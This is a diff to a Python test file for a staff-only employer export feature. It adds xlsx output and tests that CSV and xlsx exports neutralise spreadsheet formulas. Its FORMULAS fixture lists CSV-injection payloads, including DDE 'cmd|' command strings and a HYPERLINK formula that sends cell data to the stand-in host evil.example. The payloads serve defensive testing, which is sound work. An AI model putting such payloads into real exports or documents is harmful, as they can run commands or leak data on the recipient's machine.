@@ -1,6 +1,7 @@
-"""Exporting published employers as CSV, GeoJSON and GeoPackage: exactly the published set (or
-the filtered part of it), private fields only on request, only for staff."""
+"""Exporting published employers as CSV, xlsx, GeoJSON and GeoPackage: exactly the published set
+(or the filtered part of it), private fields only on request, only for staff, no formulas."""
 
+import csv
 import io
 import re
 from datetime import date
@@ -8,6 +9,7 @@ from datetime import date
 import geopandas as gpd
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 
 from app.models import CompanyStatus
 
@@ -17,6 +19,7 @@ PUBLISHED = {
     "maler": dict(lon=6.9612, lat=51.6611, sectors=("43", "47"), occupations=("32", "26")),
 }
 HIDDEN = (CompanyStatus.PENDING, CompanyStatus.REJECTED, CompanyStatus.ARCHIVED)
+KINDS = ["csv", "xlsx", "geojson", "gpkg"]
 
 
 @pytest.fixture
@@ -38,6 +41,13 @@ def read_back(content: bytes, kind: str, tmp_path) -> gpd.GeoDataFrame:
     path.write_bytes(content)
     if kind == "csv":  # GDAL's CSV driver makes points of the lon/lat columns
         return gpd.read_file(path, X_POSSIBLE_NAMES="lon", Y_POSSIBLE_NAMES="lat")
+    if kind == "xlsx":
+        table = pd.read_excel(path, dtype={"postal_code": str, "municipality_ags": str})
+        for name in ("sectors", "occupations", "family", "contact_name", "contact_email"):
+            if name in table.columns:
+                table[name] = table[name].astype("string").fillna("").astype(str)
+        points = gpd.points_from_xy(table.pop("lon"), table.pop("lat"))
+        return gpd.GeoDataFrame(table, geometry=points, crs="EPSG:4326")
     return gpd.read_file(path)
 
 
@@ -51,7 +61,7 @@ def coordinates(frame) -> dict[str, tuple[float, float]]:
 EXPECTED = {slug: (round(f["lon"], 6), round(f["lat"], 6)) for slug, f in PUBLISHED.items()}
 
 
-@pytest.mark.parametrize("kind", ["csv", "geojson", "gpkg"])
+@pytest.mark.parametrize("kind", KINDS)
 def test_export_reads_back_as_the_published_set(client, auth, entries, kind, tmp_path):
     auth.login("curator")
     response = client.get(f"/agentur/export/datei?format={kind}")
@@ -62,7 +72,7 @@ def test_export_reads_back_as_the_published_set(client, auth, entries, kind, tmp
     )
     assert response.headers["Cache-Control"] == "no-store"
     frame = read_back(response.data, kind, tmp_path)
-    if kind != "csv":
+    if kind not in ("csv", "xlsx"):
         assert frame.crs.to_epsg() == 4326
     assert sorted(frame["slug"]) == sorted(PUBLISHED)
     assert coordinates(frame) == EXPECTED
@@ -87,7 +97,7 @@ def test_csv_is_utf8_with_lon_lat_columns(client, auth, make_company):
     assert table.loc[0, "municipality_ags"] == "05562032"
 
 
-@pytest.mark.parametrize("kind", ["csv", "geojson", "gpkg"])
+@pytest.mark.parametrize("kind", KINDS)
 def test_private_fields_only_on_request(client, auth, entries, kind, tmp_path):
     auth.login("curator")
     frame = read_back(
@@ -97,7 +107,7 @@ def test_private_fields_only_on_request(client, auth, entries, kind, tmp_path):
     assert set(frame["contact_name"]) == {"Frau Geheim"}
 
 
-@pytest.mark.parametrize("kind", ["csv", "geojson", "gpkg"])
+@pytest.mark.parametrize("kind", KINDS)
 def test_the_filter_narrows_the_export(client, auth, entries, kind, tmp_path):
     auth.login("curator")
     frame = read_back(
@@ -114,7 +124,7 @@ def test_the_filter_narrows_the_export(client, auth, entries, kind, tmp_path):
 
 def test_an_empty_set_still_gives_a_readable_file(client, auth, entries, tmp_path):
     auth.login("curator")
-    for kind in ("csv", "geojson", "gpkg"):
+    for kind in KINDS:
         response = client.get(f"/agentur/export/datei?format={kind}&sector=01")
         assert response.status_code == 200
         assert len(read_back(response.data, kind, tmp_path)) == 0
@@ -162,3 +172,67 @@ def test_anonymous_visitors_get_no_export(client, entries):
         response = client.get(url)
         assert response.status_code == 403, url
         assert b"geheim@" not in response.data
+
+
+#: Texts a spreadsheet program would run as formulas (OWASP "CSV Injection"), by column.
+FORMULAS = {
+    "name": "=cmd|' /C calc'!A0",
+    "description": '=HYPERLINK("https://evil.example/?"&A1,"Mehr erfahren")',
+    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "house_number": "+1+1",
+    "town": "-2+3+cmd|' /C calc'!A0",
+    "phone": "\t=1+1",
+    "website": "\r=1+1",
+    "contact_name": "=1+1",
+    "contact_email": "＝1+1",
+}
+
+
+@pytest.fixture
+def formulas(make_company):
+    make_company(slug="formeln", employees=12, lat=51.6146, lon=7.1975, **FORMULAS)
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised(client, auth, formulas):
+    auth.login("curator")
+    content = client.get("/agentur/export/datei?format=csv&private=1").data
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert len(rows) == 1
+    assert {name: rows[0][name] for name in FORMULAS} == {
+        name: "'" + text for name, text in FORMULAS.items()
+    }
+    assert rows[0]["employees"] == "12" and rows[0]["lon"] == "7.1975"  # numbers unchanged
+
+
+def test_xlsx_cells_that_would_be_formulas_are_neutralised(client, auth, formulas):
+    auth.login("curator")
+    response = client.get("/agentur/export/datei?format=xlsx&private=1")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    header, row = [[cell for cell in values] for values in sheet.iter_rows()]
+    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
+    assert not any(cell.data_type == "f" for cell in row)  # no formula at all
+    assert {name: cells[name].value for name in FORMULAS} == {
+        name: "'" + text.replace("\r", "\n")  # XML reads a carriage return as a line feed
+        for name, text in FORMULAS.items()
+    }
+    assert cells["employees"].value == 12 and cells["employees"].data_type == "n"
+    assert cells["lat"].value == pytest.approx(51.6146)
+    assert cells["offers_apprenticeships"].value is False
+
+
+@pytest.mark.parametrize("kind", ["geojson", "gpkg"])
+def test_vector_exports_keep_the_texts_as_they_are(client, auth, formulas, kind, tmp_path):
+    auth.login("curator")
+    frame = read_back(client.get(f"/agentur/export/datei?format={kind}").data, kind, tmp_path)
+    assert frame.loc[0, "name"] == FORMULAS["name"]
+    assert frame.loc[0, "description"] == FORMULAS["description"]
+
+
+def test_csv_content_type_names_the_charset_once(client, auth, entries):
+    auth.login("curator")
+    response = client.get("/agentur/export/datei?format=csv")
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
